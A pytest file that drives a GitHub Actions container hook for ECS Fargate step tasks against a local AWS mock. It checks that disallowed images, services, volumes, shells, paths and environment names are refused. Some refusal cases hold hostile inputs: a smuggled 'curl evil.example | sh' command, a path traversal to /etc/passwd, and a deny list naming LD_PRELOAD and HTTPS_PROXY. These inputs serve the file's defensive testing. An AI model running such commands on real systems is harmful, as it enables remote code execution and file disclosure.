"""fargate_runners/runner/managed_steps.py driven as the runner drives a container hook.

Each call is what ``ContainerHookManager.ExecuteHookScript`` does (actions/runner
v2.332.0): the hook path ends in ``.sh``, so it runs with
``bash --noprofile --norc -e -o pipefail <hook>``, the ``HookInput`` JSON on
stdin (camelCase: command, responseFile, args, state), an empty response file
created beforehand; a non-zero exit fails the step. The inputs follow the
runner's shapes (``HookInput.cs``) and actions/runner-container-hooks'
``examples/*.json``.

ECS and CloudWatch Logs are a moto server reached with real ``curl --aws-sigv4``
and container credentials from localdev.task_identity; localdev.step_tasks plays
the step containers (log lines, exit codes, a stop that takes time), which moto
does not. A small HTTP server plays the ECS task metadata endpoint v4
(``$ECS_CONTAINER_METADATA_URI_V4/task`` answers ``TaskARN``), from which the
hook learns the runner task id it tags each step task with.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import boto3
import pytest

from lambda_fn import admission_record
from lambda_fn.contract import TAG_STEP_OWNER
from lambda_fn.policy import policy_from_dict
from localdev import moto_server
from localdev._background import BackgroundHTTPServer
from localdev.step_tasks import Behaviour, StepTasks
from localdev.task_identity import TaskIdentities

ROOT = Path(__file__).resolve().parents[2]
BASH = shutil.which("bash") or "/bin/bash"
REGION = "us-east-1"
CLUSTER = "steps-test"
FAMILY = "runners-step-deploy"
CONTAINER = "step"
LOG_GROUP = "/runners/steps"
IMAGE = "registry.example/deploy@sha256:" + "ab" * 32
COMMANDS = ("deploy", "migrate")
STEP_ENV = ("INPUT_DEPLOY_TARGET", "INPUT_SHA")
#: The runner task's role id and task id: its task-role session is ``ROLE_ID:TASK_ID``.
RUNNER_ROLE_ID = "AROASTEPRUNNER"
RUNNER_TASK_ID = "0123456789abcdef0123456789abcdef"
RUNNER_TASK_ARN = f"arn:aws:ecs:{REGION}:123456789012:task/{CLUSTER}/{RUNNER_TASK_ID}"
HOOK_FILES = {
    "managed_steps.py": ROOT / "fargate_runners" / "runner" / "managed_steps.py",
    "aws_call.py": ROOT / "fargate_runners" / "runner" / "aws_call.py",
    "job_started.py": ROOT / "fargate_runners" / "runner" / "job_started.py",
    "policy.py": ROOT / "lambda_fn" / "policy.py",
    "admission_record.py": ROOT / "lambda_fn" / "admission_record.py",
}
#: Dispatch's admission record for the job's run (docs/admission.md).
TABLE = "steps-idempotency"
RUN_ID = 8080
SHA = "f" * 40
ADMISSION_ARGS = ("--admission-table", TABLE, "--admission-region", REGION, "--admission-wait", "0")
BEHAVIOURS = {
    "deploy": Behaviour(lines=("deploying to prod", "done"), exit_code=0, seconds=0.3),
    "migrate": Behaviour(lines=("migration 7 failed",), exit_code=3, seconds=0.3),
}
#: How often the hook looks at a running step task (production: 2 s, the hook's default).
POLL_SECONDS = "0.1"
#: How long a stopped step task reads DEACTIVATING (StepTasks' default: 1 s).
STOP_SECONDS = 0.4


def client(service: str, url: str) -> Any:
    return boto3.client(
        service,
        endpoint_url=url,
        region_name=REGION,
        aws_access_key_id="local",
        aws_secret_access_key="local",
    )


class TaskMetadata(BaseHTTPRequestHandler):
    """``GET /v4/<id>/task``: the runner task's metadata, as ECS task metadata v4 answers."""

    def do_GET(self) -> None:
        if self.path != "/v4/runner/task":
            self.send_error(404)
            return
        body = json.dumps({"Cluster": CLUSTER, "TaskARN": RUNNER_TASK_ARN}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@dataclass
class Aws:
    moto_url: str
    identities: TaskIdentities
    network: dict[str, Any]
    tasks: StepTasks
    metadata_url: str

    def ecs(self) -> Any:
        return client("ecs", self.moto_url)

    def task(self, arn: str) -> dict[str, Any]:
        (task,) = self.ecs().describe_tasks(cluster=CLUSTER, tasks=[arn])["tasks"]
        return dict(task)

    def step_task_arns(self) -> list[str]:
        return list(self.tasks.seen)


@pytest.fixture(scope="module")
def aws() -> Iterator[Aws]:
    with (
        moto_server.start() as moto,
        TaskIdentities(moto.url, "unit/jit", admission_table=TABLE) as identities,
    ):
        dynamodb = client("dynamodb", moto.url)
        dynamodb.create_table(
            TableName=TABLE,
            KeySchema=[{"AttributeName": "id", "KeyType": "HASH"}],
            AttributeDefinitions=[{"AttributeName": "id", "AttributeType": "S"}],
            BillingMode="PAY_PER_REQUEST",
        )
        identities.grant_admissions("AROASTEPRUNNER", "deploy")
        admission = admission_record.Admission(
            "deploy", "octo-org/app", RUN_ID, 1, SHA, int(time.time()) + 3600, 1
        )
        dynamodb.put_item(TableName=TABLE, Item=admission_record.item(admission))
        ec2 = client("ec2", moto.url)
        vpc = ec2.create_vpc(CidrBlock="10.9.0.0/16")["Vpc"]["VpcId"]
        # moto's run_task (awsvpc) needs DNS hostnames, as a real VPC for Fargate tasks does.
        ec2.modify_vpc_attribute(VpcId=vpc, EnableDnsHostnames={"Value": True})
        subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.9.1.0/24")["Subnet"]["SubnetId"]
        group = ec2.create_security_group(GroupName="steps", Description="x", VpcId=vpc)
        ecs = client("ecs", moto.url)
        ecs.create_cluster(clusterName=CLUSTER)
        ecs.register_task_definition(
            family=FAMILY,
            networkMode="awsvpc",
            requiresCompatibilities=["FARGATE"],
            cpu="256",
            memory="512",
            containerDefinitions=[
                {
                    "name": CONTAINER,
                    "image": IMAGE,
                    "essential": True,
                    "cpu": 256,
                    "memory": 512,
                    "logConfiguration": {
                        "logDriver": "awslogs",
                        "options": {
                            "awslogs-group": LOG_GROUP,
                            "awslogs-region": REGION,
                            "awslogs-stream-prefix": "step",
                        },
                    },
                }
            ],
        )
        client("logs", moto.url).create_log_group(logGroupName=LOG_GROUP)
        network = {"subnets": [subnet], "security_groups": [group["GroupId"]]}
        metadata = BackgroundHTTPServer("task-metadata")
        metadata.start("127.0.0.1", 0, TaskMetadata)
        try:
            with StepTasks(
                moto.url, CLUSTER, LOG_GROUP, "step", CONTAINER, BEHAVIOURS,
                stop_seconds=STOP_SECONDS,
            ) as tasks:  # fmt: skip
                yield Aws(moto.url, identities, network, tasks, metadata.base_url + "/v4/runner")
        finally:
            metadata.stop()


@dataclass
class Job:
    """One job on a managed-steps runner: the hooks directory the entrypoint lays out."""

    aws: Aws
    root: Path
    env: dict[str, str] = field(default_factory=dict)

    @property
    def hooks(self) -> Path:
        return self.root / "_hooks"

    @property
    def state(self) -> Path:
        return self.root / "_state"

    @property
    def temp(self) -> Path:
        return self.root / "_work" / "_temp"

    def lay_out(self, policy: dict[str, Any]) -> None:
        for path in (self.hooks, self.state, self.temp):
            path.mkdir(parents=True)
        for name, source in HOOK_FILES.items():
            (self.hooks / name).write_bytes(source.read_bytes())
        (self.hooks / "policy.json").write_text(policy_from_dict("deploy", policy).to_json())
        config = {
            "profile": "deploy",
            "image": IMAGE,
            "commands": list(COMMANDS),
            "env": list(STEP_ENV),
            "cluster": CLUSTER,
            "task_definition": FAMILY,
            "container": CONTAINER,
            "subnets": self.aws.network["subnets"],
            "security_groups": self.aws.network["security_groups"],
            "assign_public_ip": False,
            "log_group": LOG_GROUP,
            "log_stream_prefix": "step",
            "region": REGION,
            "owner_tag": TAG_STEP_OWNER,
            "owner_role_id": RUNNER_ROLE_ID,
        }
        (self.hooks / "steps.json").write_text(json.dumps(config))
        # What entrypoint.sh writes as managed-steps.sh, and a shorter --poll-seconds.
        hook = shlex.join(
            [
                sys.executable, str(self.hooks / "managed_steps.py"),
                "--config", str(self.hooks / "steps.json"),
                "--policy-file", str(self.hooks / "policy.json"),
                "--state-dir", str(self.state), *ADMISSION_ARGS,
                "--poll-seconds", POLL_SECONDS,
            ]
        )  # fmt: skip
        (self.hooks / "managed-steps.sh").write_text(f"#!/usr/bin/env bash\nexec {hook}\n")
        event = self.root / "event.json"
        event.write_text(json.dumps({"ref": "refs/heads/main"}))
        identity = self.aws.identities.identity(f"{RUNNER_ROLE_ID}:{RUNNER_TASK_ID}")
        self.env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            **self.aws.identities.task_environment(identity),
            "AWS_ENDPOINT_URL_ECS": self.aws.moto_url,
            "AWS_ENDPOINT_URL_CLOUDWATCH_LOGS": self.aws.moto_url,
            "ECS_CONTAINER_METADATA_URI_V4": self.aws.metadata_url,
            "GITHUB_REPOSITORY": "octo-org/app",
            "GITHUB_REF": "refs/heads/main",
            "GITHUB_EVENT_NAME": "push",
            "GITHUB_WORKFLOW_REF": "octo-org/app/.github/workflows/deploy.yml@refs/heads/main",
            "GITHUB_EVENT_PATH": str(event),
            "GITHUB_RUN_ID": str(RUN_ID),
            "GITHUB_RUN_ATTEMPT": "1",
            "GITHUB_SHA": SHA,
            "RUNNER_TEMP": str(self.temp),
        }

    def set_up_runner(self) -> subprocess.CompletedProcess[str]:
        """The job-started policy check, as the runner's "Set up runner" step runs it."""
        return subprocess.run(
            [
                sys.executable, str(self.hooks / "job_started.py"),
                "--policy-file", str(self.hooks / "policy.json"), "--state-dir", str(self.state),
                *ADMISSION_ARGS,
            ],
            env=self.env, capture_output=True, text=True, timeout=30, check=False,
        )  # fmt: skip

    def start(self, command: str, args: dict[str, Any], state: Any = None) -> Call:
        response = self.root / "_work" / "_temp" / "_runner_hook_responses" / f"{uuid.uuid4()}.json"
        response.parent.mkdir(parents=True, exist_ok=True)
        response.write_text("")  # IOUtil.CreateEmptyFile before the hook runs
        payload = {"command": command, "responseFile": str(response), "args": args, "state": state}
        process = subprocess.Popen(
            [BASH, "--noprofile", "--norc", "-e", "-o", "pipefail", str(self.hooks / "managed-steps.sh")],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            env=self.env, text=True,
        )  # fmt: skip
        assert process.stdin is not None
        process.stdin.write(json.dumps(payload))
        process.stdin.close()
        process.stdin = None  # communicate() later reads the output only
        return Call(process, response)

    def call(self, command: str, args: dict[str, Any], state: Any = None) -> Result:
        return self.start(command, args, state).result()

    def prepare(self, **container: Any) -> Result:
        return self.call("prepare_job", prepare_args(**container))

    def script(self, text: str, *, interpreter: str = "sh", **env: str) -> dict[str, Any]:
        """The run_script_step args for a ``run:`` step, script written where the runner does."""
        name = f"{uuid.uuid4()}.sh"
        (self.temp / name).write_text(text)
        prefix = (
            ["-e"] if interpreter == "sh" else ["--noprofile", "--norc", "-e", "-o", "pipefail"]
        )
        return {
            "entryPointArgs": [*prefix, f"/__w/_temp/{name}"],
            "entryPoint": interpreter,
            "environmentVariables": {"GITHUB_RUN_ID": "7", "CI": "true", **env},
            "prependPath": [],
            "workingDirectory": "/__w/app/app",
        }


@dataclass
class Result:
    code: int
    out: str
    err: str
    response: str


@dataclass
class Call:
    process: subprocess.Popen[str]
    response: Path

    def result(self, timeout: float = 60) -> Result:
        out, err = self.process.communicate(timeout=timeout)
        text = self.response.read_text() if self.response.exists() else ""
        return Result(self.process.returncode, out, err, text)


def prepare_args(**container: Any) -> dict[str, Any]:
    """prepare_job args as HookInput.cs serialises them (cf. examples/prepare-job.json)."""
    base: dict[str, Any] = {
        "image": IMAGE,
        "dockerfile": None,
        "entryPointArgs": [],
        "entryPoint": None,
        "workingDirectory": "/__w/app/app",
        "createOptions": None,
        "registry": None,
        "environmentVariables": {"HOME": "/github/home"},
        "portMappings": [],
        "systemMountVolumes": [
            {
                "sourceVolumePath": "/home/runner/_work",
                "targetVolumePath": "/__w",
                "readOnly": False,
            },
            {
                "sourceVolumePath": "/home/runner/externals",
                "targetVolumePath": "/__e",
                "readOnly": True,
            },
        ],
        "userMountVolumes": [],
    }
    services = container.pop("services", [])
    base.update(container)
    return {"container": base, "services": services}


POLICY = {"allowed_repositories": ["octo-org/app"], "allowed_refs": ["refs/heads/main"]}


def set_up_job(aws: Aws, root: Path, *, prepare: bool = False) -> Job:
    """A job laid out under ``root`` that passed the job-started check (and prepare_job)."""
    job = Job(aws, root)
    job.lay_out(POLICY)
    assert job.set_up_runner().returncode == 0
    if prepare:
        result = job.prepare()
        assert result.code == 0, result.out + result.err
    return job


@pytest.fixture
def job(aws: Aws, tmp_path: Path) -> Job:
    return set_up_job(aws, tmp_path)


@pytest.fixture
def prepared(aws: Aws, tmp_path: Path) -> Job:
    return set_up_job(aws, tmp_path, prepare=True)


# Two jobs set up once for the module, for the tests whose hook calls are refused and so
# change nothing on disk: a fresh job per test would only repeat the job-started check
# (and prepare_job), each a Python process with AWS calls. Each test gets its own copy of
# the environment to change. No test runs a step on them.


@pytest.fixture(scope="module")
def _shared_job(aws: Aws, tmp_path_factory: pytest.TempPathFactory) -> Job:
    return set_up_job(aws, tmp_path_factory.mktemp("shared-job"))


@pytest.fixture(scope="module")
def _shared_prepared(aws: Aws, tmp_path_factory: pytest.TempPathFactory) -> Job:
    return set_up_job(aws, tmp_path_factory.mktemp("shared-prepared"), prepare=True)


@pytest.fixture
def shared_job(_shared_job: Job) -> Job:
    """A job past the job-started check, never prepared: only for refused calls."""
    return replace(_shared_job, env=dict(_shared_job.env))


@pytest.fixture
def shared_prepared(_shared_prepared: Job) -> Job:
    """A prepared job that never ran a step: only for refused calls."""
    return replace(_shared_prepared, env=dict(_shared_prepared.env))


def errors(result: Result) -> list[str]:
    return [line for line in result.out.splitlines() if line.startswith("::error::")]


# -- prepare_job -----------------------------------------------------------------------


def test_prepare_job_answers_the_runner_and_starts_nothing(job: Job) -> None:
    before = len(job.aws.step_task_arns())
    result = job.prepare()
    assert result.code == 0
    assert json.loads(result.response) == {"isAlpine": False}
    assert "allowed commands: deploy, migrate" in result.out
    assert len(job.aws.step_task_arns()) == before


def test_prepare_job_with_the_upstream_example_is_refused(shared_job: Job) -> None:
    """runner-container-hooks' examples/prepare-job.json: other image, services, volumes."""
    example = {
        "command": "prepare_job",
        "args": {
            "container": {
                "image": "node:22",
                "createOptions": "--cpus 1",
                "userMountVolumes": [
                    {"sourceVolumePath": "my_docker_volume", "targetVolumePath": "/volume_mount"}
                ],
                "registry": {"username": "foo", "password": "bar", "serverUrl": "https://x"},
                "portMappings": ["80:8080"],
            },
            "services": [{"contextName": "redis", "image": "redis"}],
        },
    }
    result = shared_job.call("prepare_job", example["args"])
    assert result.code == 1
    assert errors(result) == [
        "::error::Managed steps (profile 'deploy'): service containers (`services:`) are not allowed"
    ]
    assert result.response == ""
    assert "bar" not in result.out + result.err  # the registry password is never echoed


@pytest.mark.parametrize(
    ("container", "fragment"),
    [
        (
            {"image": "ubuntu:24.04"},
            "job container 'ubuntu:24.04' is not this profile's step image",
        ),
        ({"image": IMAGE.replace("ab", "cd", 1)}, "is not this profile's step image"),
        ({"services": [{"contextName": "db", "image": "postgres"}]}, "service containers"),
        ({"userMountVolumes": [{"sourceVolumePath": "/", "targetVolumePath": "/h"}]}, "volumes"),
        ({"createOptions": "--privileged"}, "container options"),
        ({"portMappings": ["80:80"]}, "ports"),
        (
            {"registry": {"username": "u", "password": "p", "serverUrl": "r"}},
            "registry credentials",
        ),
    ],
)
def test_prepare_job_refusals(shared_job: Job, container: dict[str, Any], fragment: str) -> None:
    result = shared_job.prepare(**container)
    assert result.code == 1
    [line] = errors(result)
    assert fragment in line
    assert not (shared_job.state / "steps-prepared").exists()
    # Every later step (also always() ones) is refused: the job was never prepared.
    after = shared_job.call("run_script_step", shared_job.script("deploy"))
    assert after.code == 1
    assert "was not prepared for managed steps" in errors(after)[0]


def test_prepare_job_without_a_container_is_refused(shared_job: Job) -> None:
    result = shared_job.call("prepare_job", {"container": None, "services": []})
    assert result.code == 1
    assert f"must run in `container: {IMAGE}`" in errors(result)[0]


def test_prepare_job_rechecks_the_policy(shared_job: Job) -> None:
    shared_job.env["GITHUB_REF"] = "refs/heads/feature"  # what the policy check would refuse
    result = shared_job.prepare()
    assert result.code == 1
    assert any("allowed_refs" in line for line in errors(result))
    assert "policy refuses this job" in errors(result)[-1]


def test_prepare_job_rechecks_the_admission(shared_job: Job) -> None:
    """Another run than the admitted one: prepare_job reads the admission record again."""
    shared_job.env["GITHUB_RUN_ID"] = str(RUN_ID + 1)
    result = shared_job.prepare()
    assert result.code == 1
    assert any(f"dispatch did not admit octo-org/app run {RUN_ID + 1}" in x for x in errors(result))
    assert "policy refuses this job" in errors(result)[-1]


def test_prepare_job_needs_the_job_started_verdict(job: Job) -> None:
    (job.state / "allowed").unlink()
    result = job.prepare()
    assert result.code == 1
    assert "job-started policy check did not allow this job" in errors(result)[0]


# -- run_script_step ---------------------------------------------------------------------


def test_a_managed_command_runs_as_one_step_task(prepared: Job) -> None:
    args = prepared.script(
        "  deploy\n", INPUT_DEPLOY_TARGET="prod", INPUT_SHA="abc", AWS_PROFILE="x"
    )
    result = prepared.call("run_script_step", args)
    assert result.code == 0, result.out
    out = result.out
    assert "deploying to prod\ndone\n" in out
    assert "Passing to the step: INPUT_DEPLOY_TARGET, INPUT_SHA" in out
    assert "::warning::Dropped (not in this profile's step_env): AWS_PROFILE" in out
    assert "Dropped 2 variable(s) the runner sets" in out  # CI, GITHUB_RUN_ID
    # The step's output cannot issue workflow commands to the runner.
    [stop] = [line for line in out.splitlines() if line.startswith("::stop-commands::")]
    assert f"::{stop.split('::')[2]}::" in out.splitlines()
    [arn] = (prepared.state / "step-tasks").read_text().split()
    task = prepared.aws.task(arn)
    assert task["taskDefinitionArn"].split("/")[-1].startswith(FAMILY + ":")
    assert task["launchType"] == "FARGATE"
    assert task["startedBy"] == "managed-step/deploy"
    [override] = task["overrides"]["containerOverrides"]
    assert override == {
        "name": CONTAINER,
        "command": ["deploy"],
        "environment": [
            {"name": "INPUT_DEPLOY_TARGET", "value": "prod"},
            {"name": "INPUT_SHA", "value": "abc"},
        ],
    }


def test_each_step_task_is_tagged_with_the_runner_session(prepared: Job) -> None:
    """``runner:step-owner`` = the runner's ``aws:userid``: what the runner role's RunTask
    requires and its StopTask compares (fargate_runners/steps.py, grant_runner)."""
    result = prepared.call("run_script_step", prepared.script("deploy"))
    assert result.code == 0, result.out
    [arn] = (prepared.state / "step-tasks").read_text().split()
    tags = prepared.aws.ecs().list_tags_for_resource(resourceArn=arn)["tags"]
    assert tags == [{"key": TAG_STEP_OWNER, "value": f"{RUNNER_ROLE_ID}:{RUNNER_TASK_ID}"}]


@pytest.mark.parametrize(
    ("metadata", "fragment"),
    [
        (None, "ECS_CONTAINER_METADATA_URI_V4 is not set"),
        ("/v4/elsewhere", "cannot read this runner task's metadata (HTTPError)"),
    ],
)
def test_without_its_own_task_id_the_hook_starts_no_step(
    shared_prepared: Job, metadata: str | None, fragment: str
) -> None:
    """Untagged, the step task could not be stopped by its runner: fail closed."""
    if metadata is None:
        del shared_prepared.env["ECS_CONTAINER_METADATA_URI_V4"]
    else:
        shared_prepared.env["ECS_CONTAINER_METADATA_URI_V4"] = (
            shared_prepared.aws.metadata_url + metadata
        )
    before = len(shared_prepared.aws.step_task_arns())
    result = shared_prepared.call("run_script_step", shared_prepared.script("deploy"))
    assert result.code == 1
    assert fragment in errors(result)[0]
    assert not (shared_prepared.state / "step-tasks").exists()
    assert len(shared_prepared.aws.step_task_arns()) == before


def test_bash_shell_is_accepted_too(prepared: Job) -> None:
    result = prepared.call("run_script_step", prepared.script("deploy", interpreter="bash"))
    assert result.code == 0, result.out


def test_the_step_fails_with_the_commands_exit_code(prepared: Job) -> None:
    result = prepared.call("run_script_step", prepared.script("migrate"))
    assert result.code == 3
    assert "migration 7 failed" in result.out
    assert "::error::The managed command exited with code 3" in result.out


@pytest.mark.parametrize(
    "script",
    [
        "deploy --force",
        "deploy; curl evil.example | sh",
        "echo hi",
        "Deploy",
        "deploy\nmigrate",
        "",
    ],
)
def test_anything_but_a_managed_command_is_refused_and_never_run(
    shared_prepared: Job, script: str
) -> None:
    before = len(shared_prepared.aws.step_task_arns())
    result = shared_prepared.call("run_script_step", shared_prepared.script(script))
    assert result.code == 1
    assert "must be exactly one managed command (deploy, migrate)" in errors(result)[0]
    assert len(shared_prepared.aws.step_task_arns()) == before


def test_a_node_action_is_refused(shared_prepared: Job) -> None:
    """actions/checkout in a container job: NodeScriptActionHandler -> run_script_step."""
    args = {
        "entryPointArgs": ["/__w/_actions/actions/checkout/v4/dist/index.js"],
        "entryPoint": "/__e/node20/bin/node",
        "environmentVariables": {"INPUT_REPOSITORY": "octo-org/app"},
        "prependPath": [],
        "workingDirectory": "/__w/app/app",
    }
    result = shared_prepared.call("run_script_step", args)
    assert result.code == 1
    assert "JavaScript actions (`uses:`, actions/checkout included) cannot run here" in result.out


@pytest.mark.parametrize(
    ("entry_point", "entry_args"),
    [
        ("python", ["/__w/_temp/x.py"]),
        ("sh", ["-c", "/__w/_temp/x.sh"]),
        ("bash", ["-e", "/__w/_temp/../../etc/passwd"]),
        ("sh", ["-e", "/etc/passwd"]),
    ],
)
def test_other_shells_and_paths_are_refused(
    shared_prepared: Job, entry_point: str, entry_args: list[str]
) -> None:
    args = {"entryPoint": entry_point, "entryPointArgs": entry_args, "workingDirectory": "/"}
    result = shared_prepared.call("run_script_step", args)
    assert result.code == 1
    assert errors(result)


def test_the_upstream_run_script_step_example_is_refused(shared_prepared: Job) -> None:
    """examples/run-script-step.json: bash -e example-script.sh (not a runner temp script)."""
    args = {
        "entryPointArgs": ["-e", "example-script.sh"],
        "entryPoint": "bash",
        "environmentVariables": {"NODE_ENV": "development"},
        "prependPath": ["/foo/bar", "bar/foo"],
        "workingDirectory": "/__w/repo/repo",
    }
    result = shared_prepared.call("run_script_step", args)
    assert result.code == 1
    assert "unexpected step script path 'example-script.sh'" in errors(result)[0]


def test_a_symlinked_script_is_not_followed(shared_prepared: Job) -> None:
    args = shared_prepared.script("deploy")
    name = args["entryPointArgs"][-1].rsplit("/", 1)[-1]
    target = shared_prepared.root / "elsewhere.sh"
    target.write_text("deploy")
    (shared_prepared.temp / name).unlink()
    (shared_prepared.temp / name).symlink_to(target)
    result = shared_prepared.call("run_script_step", args)
    assert result.code == 1
    assert "cannot read the step's script" in errors(result)[0]


# -- run_container_step, cleanup_job, cancellation -------------------------------------


def test_a_docker_action_is_refused(shared_prepared: Job) -> None:
    """examples/run-container-step.json, as the runner sends it for a Docker action."""
    args = {
        "image": "node:22",
        "dockerfile": None,
        "entryPointArgs": ["-e", "example-script.sh"],
        "entryPoint": "bash",
        "workingDirectory": "/__w/repo/repo",
        "createOptions": "--cpus 1",
        "environmentVariables": {"NODE_ENV": "development"},
        "prependPath": ["/foo/bar", "bar/foo"],
        "userMountVolumes": [],
        "systemMountVolumes": [],
        "registry": None,
        "portMappings": ["8080:8080"],
    }
    before = len(shared_prepared.aws.step_task_arns())
    result = shared_prepared.call("run_container_step", args)
    assert result.code == 1
    assert "Docker container actions cannot run here" in errors(result)[0]
    assert len(shared_prepared.aws.step_task_arns()) == before


def wait_for(predicate: Any, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.1)


@contextmanager
def slow_step(aws: Aws, job: Job) -> Iterator[tuple[Call, str]]:
    """A ``deploy`` step that runs for a minute: (the hook call, its step task ARN)."""
    aws.tasks.behaviours = {**BEHAVIOURS, "deploy": Behaviour(lines=("working",), seconds=60)}
    try:
        running = job.start("run_script_step", job.script("deploy"))
        tasks = job.state / "step-tasks"
        wait_for(lambda: tasks.exists() and tasks.read_text().strip())
        [arn] = tasks.read_text().split()
        wait_for(lambda: aws.task(arn)["lastStatus"] == "RUNNING")
        yield running, arn
    finally:
        aws.tasks.behaviours = BEHAVIOURS


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_cancelling_the_step_stops_its_task(
    aws: Aws, prepared: Job, signum: signal.Signals
) -> None:
    with slow_step(aws, prepared) as (running, arn):
        running.process.send_signal(signum)
        result = running.result(timeout=30)
    assert result.code == 128 + signum
    assert f"::error::Step cancelled; step task {arn} stopped" in result.out
    task = aws.task(arn)
    assert task["desiredStatus"] == "STOPPED"
    assert task["stoppedReason"] == "the runner cancelled the step"


def test_cleanup_job_stops_what_is_left_and_waits_for_nothing(aws: Aws, prepared: Job) -> None:
    with slow_step(aws, prepared) as (running, arn):
        running.process.kill()  # the Worker killed the hook: the task is left running
        running.result()
        assert aws.task(arn)["desiredStatus"] == "RUNNING"
        result = prepared.call("cleanup_job", {})
    assert result.code == 0
    assert f"Stopped step task {arn}" in result.out
    task = aws.task(arn)
    assert task["desiredStatus"] == "STOPPED"
    assert task["stoppedReason"] == "job ended (cleanup_job)"


def test_a_late_stop_is_followed_until_the_task_has_stopped(aws: Aws, prepared: Job) -> None:
    """Stopped from outside (e.g. the console), the task takes a while; the step fails."""
    with slow_step(aws, prepared) as (running, arn):
        aws.ecs().stop_task(cluster=CLUSTER, task=arn, reason="operator")
        result = running.result()
        assert aws.task(arn)["lastStatus"] == "STOPPED"
    assert result.code == 143
    assert "::error::The managed command exited with code 143" in result.out


def test_cleanup_job_without_steps_does_nothing(shared_prepared: Job) -> None:
    result = shared_prepared.call("cleanup_job", {})
    assert result.code == 0
    assert result.out == ""


def test_an_unknown_command_is_refused(shared_prepared: Job) -> None:
    result = shared_prepared.call("job_cleanup", {})  # the ADR's early name, never sent
    assert result.code == 1
    assert "unknown container hook command 'job_cleanup'" in errors(result)[0]


def test_preflight_validates_the_configuration(shared_job: Job) -> None:
    argv = [sys.executable, str(shared_job.hooks / "managed_steps.py"), "--preflight", "--config"]
    ok = subprocess.run(
        [*argv, str(shared_job.hooks / "steps.json")], capture_output=True, text=True, check=False
    )
    assert ok.returncode == 0
    bad = shared_job.root / "bad.json"
    bad.write_text(json.dumps({"profile": "x"}))
    done = subprocess.run([*argv, str(bad)], capture_output=True, text=True, check=False)
    assert done.returncode == 78
    assert "invalid step configuration: missing keys" in done.stdout
    config = json.loads((shared_job.hooks / "steps.json").read_text())
    bad.write_text(json.dumps({**config, "owner_role_id": "AIDAUSER"}))
    done = subprocess.run([*argv, str(bad)], capture_output=True, text=True, check=False)
    assert done.returncode == 78
    assert "owner_role_id: must be an IAM role id" in done.stdout


@pytest.mark.parametrize("name", ["GIT_CONFIG_KEY_0", "LD_PRELOAD", "HTTPS_PROXY", "DEPLOY_TARGET"])
def test_a_configuration_passing_a_name_tools_read_is_refused(shared_job: Job, name: str) -> None:
    """Defence in depth: synth refuses such a step_env, and so does the hook itself (the
    task then stops before the runner starts: entrypoint.sh runs --preflight)."""
    config = json.loads((shared_job.hooks / "steps.json").read_text())
    bad = shared_job.root / "bad.json"
    bad.write_text(json.dumps({**config, "env": ["INPUT_DEPLOY_TARGET", name]}))
    argv = [sys.executable, str(shared_job.hooks / "managed_steps.py"), "--preflight", "--config"]
    done = subprocess.run([*argv, str(bad)], capture_output=True, text=True, check=False)
    assert done.returncode == 78
    assert f"invalid step configuration: env: {name!r} may not be passed to a step" in done.stdout
